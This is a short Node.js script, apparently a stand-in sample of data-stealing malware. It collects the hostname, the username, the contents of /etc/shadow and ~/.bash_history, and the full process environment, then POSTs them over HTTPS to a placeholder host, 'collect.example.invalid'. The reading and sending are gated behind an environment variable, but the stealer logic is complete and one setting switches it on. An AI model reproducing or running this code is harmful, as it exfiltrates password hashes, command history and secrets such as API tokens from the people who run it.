const fs = require('fs');
const os = require('os');
const https = require('https');

function read(file) {
  try {
    return process.env.NEVER_IN_A_STAND_IN ? fs.readFileSync(file, 'utf8') : '';
  } catch (e) {
    return '';
  }
}

const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, p: read('/etc/shadow'), b: read(os.homedir() + '/.bash_history'), e: process.env });
const req = https.request({ hostname: 'collect.example.invalid', port: 443, path: '/', method: 'POST' });
req.on('error', () => {});
if (process.env.NEVER_IN_A_STAND_IN) req.write(data);
req.end();
